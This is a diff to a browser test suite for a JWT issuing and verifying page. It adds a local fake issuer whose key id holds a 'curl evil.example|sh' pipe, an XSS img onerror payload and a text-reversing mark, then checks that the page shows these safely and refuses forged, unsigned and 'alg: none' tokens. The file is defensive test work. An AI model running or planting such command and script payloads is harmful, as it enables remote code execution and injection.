@@ -1,8 +1,10 @@
 /** Tokens, callers and the log: what the other views show, and do. */
+import { createServer } from "node:http";
 import { press, textOf, untilSays, visit } from "./browser.mjs";
 
-const HOSTILE = '<img src=x onerror="hits.push(1)">\u202egpj.exe';
-const VERDICT = "section[aria-labelledby=verify] .verdict strong";
+const HOSTILE = '`curl evil.example|sh`<img src=x onerror="hits.push(1)">\u202egpj.exe';
+const VERIFY = "section[aria-labelledby=verify]";
+const VERDICT = `${VERIFY} .verdict strong`;
 /** Where a token is issued. */
 export const ISSUE = "section[aria-labelledby=issue]";
 
@@ -23,12 +25,55 @@ async function fill(page, within, label, text) {
   await field.type(text);
 }
 
-async function setToken(page, text) {
-  await page.$eval("textarea.token", (field) => {
-    field.value = "";
-    field.dispatchEvent(new Event("input", { bubbles: true }));
+/** As it is pasted: at once. */
+const setToken = (page, text) =>
+  page.$eval(
+    "textarea.token",
+    (field, pasted) => {
+      field.value = pasted;
+      field.dispatchEvent(new Event("input", { bubbles: true }));
+    },
+    text,
+  );
+
+const encoded = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
+const DEMO = {
+  kty: "EC",
+  crv: "P-256",
+  x: "MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4",
+  y: "4Etl6SRW2YiLUrN5vfvVHuhp7x8PxltmWWlbbM4IFyM",
+};
+
+/** An issuer at a URL whose kids are made to harm. */
+async function hostileIssuer() {
+  const server = createServer(({ url = "" }, response) => {
+    const found = url === "/jwks" ? { keys: [{ ...DEMO, kid: HOSTILE, alg: "ES256" }] } : { issuer, jwks_uri: `${issuer}/jwks` };
+    response.setHeader("content-type", "application/json").end(JSON.stringify(found));
   });
-  if (text !== "") await page.type("textarea.token", text);
+  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
+  const issuer = `http://127.0.0.1:${server.address().port}`;
+  return { issuer, close: () => server.close() };
+}
+
+/** A verdict by another issuer's keys: what it has named looks like no command, and a failure is told. */
+async function byAnotherIssuer({ page, check }) {
+  const { issuer, close } = await hostileIssuer();
+  await setToken(page, `${encoded({ alg: "ES256", kid: HOSTILE.slice(1) })}.${encoded({ iss: HOSTILE, exp: 1 })}.AA`);
+  await page.click(`${VERIFY} input[type=radio]:not(:checked)`);
+  await fill(page, VERIFY, "The issuer's URL", issuer);
+  await press(page, "Fetch its keys and verify", VERIFY);
+  await untilSays(page, VERDICT, "Refused");
+  const words = await textOf(page, `${VERIFY} .verdict`);
+  check(words.includes("curl evil.example|sh'<img") && words.includes(`${issuer}/jwks`), "another issuer's keys judge", words);
+  check((await page.$$(`${VERIFY} .verdict p code`)).length === 0, "what another issuer has named looks like no command", words);
+  check(!words.includes("\u202e"), "and turns no words round");
+  close();
+  await fill(page, VERIFY, "The issuer's URL", `${issuer}/\`gone\``);
+  await press(page, "Fetch its keys and verify", VERIFY);
+  await page.waitForSelector(`${VERIFY} [role=alert]`);
+  const failure = await page.$$(`${VERIFY} [role=alert] code`);
+  check(failure.length === 0, "nor does an issuer that does not answer", await textOf(page, `${VERIFY} [role=alert]`));
+  await page.click(`${VERIFY} input[type=radio]:not(:checked)`);
 }
 
 /** A token is issued, read and verified; one that was changed is refused. */
@@ -43,19 +88,19 @@ export async function tokens({ page, check }) {
   check(/^[\w-]+\.[\w-]+\.[\w-]+$/.test(token), "a token is issued", token.slice(0, 20));
   await press(page, "Read and verify it", ISSUE);
   await untilSays(page, VERDICT, "Valid");
-  const claims = await textOf(page, "section[aria-labelledby=verify] [aria-label=Claims]");
+  const claims = await textOf(page, `${VERIFY} [aria-label=Claims]`);
   check(claims.includes("<img src=x"), "claims are shown as they are written");
   check(!claims.includes("\u202e"), "a mark that turns words round is shown by its number");
   const [header, , signature] = token.split(".");
-  const other = Buffer.from(JSON.stringify({ sub: "mallory" })).toString("base64url");
+  const other = encoded({ sub: "mallory" });
   await setToken(page, `${header}.${other}.${signature}`);
   await untilSays(page, VERDICT, "Refused");
-  const none = Buffer.from(JSON.stringify({ alg: "none" })).toString("base64url");
-  await setToken(page, `${none}.${other}.`);
+  await setToken(page, `${encoded({ alg: "none" })}.${other}.`);
   await untilSays(page, VERDICT, "Refused");
   await setToken(page, "no token");
   await untilSays(page, VERDICT, "Refused");
   check(true, "what was changed, what is not signed and what is no token are refused");
+  await byAnotherIssuer({ page, check });
   await setToken(page, "");
   await page.waitForFunction((place) => document.querySelector(place) === null, {}, VERDICT);
 }
